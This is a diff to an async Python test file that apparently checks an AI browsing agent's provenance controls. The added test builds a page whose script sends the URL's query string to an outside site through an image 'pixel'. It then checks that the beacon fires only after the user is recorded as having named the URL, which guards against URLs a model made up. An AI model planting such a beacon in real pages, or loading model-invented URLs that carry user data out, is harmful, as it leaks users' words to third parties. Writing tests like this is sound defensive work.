@@ -212,6 +212,18 @@ async def test_what_a_model_made_up_is_not_told_on_when_its_page_is_loaded_again
     assert [request.path for request in serve.requests if "pixel" in request.path and "stolen" in request.path] == []
 
 
+async def test_a_page_that_a_run_goes_on_with_may_have_been_made_up(session: Session, serve: PageServer):
+    pixel = f"<img id=i><script>i.src = '{serve.other_site}/pixel?p=' + location.search</script>"
+    url = serve(pixel, "/search") + "?q=stolen-words"
+    session.permissions.open(serve.origin)
+    assert await session.return_to(url)
+    assert not any("pixel" in request.path for request in serve.requests)
+    session.provenance = type(session.provenance)()
+    session.provenance.words.say(f"Look at {url}")
+    assert await session.return_to(url)
+    assert any("pixel" in request.path for request in serve.requests)
+
+
 CHAT = """<form id=f><textarea name=a aria-label=Comment></textarea><input name=b aria-label=Note>
 <input aria-label=Search><button>NAME</button></form><script>f.addEventListener('submit', (event) => {
   event.preventDefault(); fetch('/said', { method: 'POST', body: f.elements.a.value + f.elements.b.value });
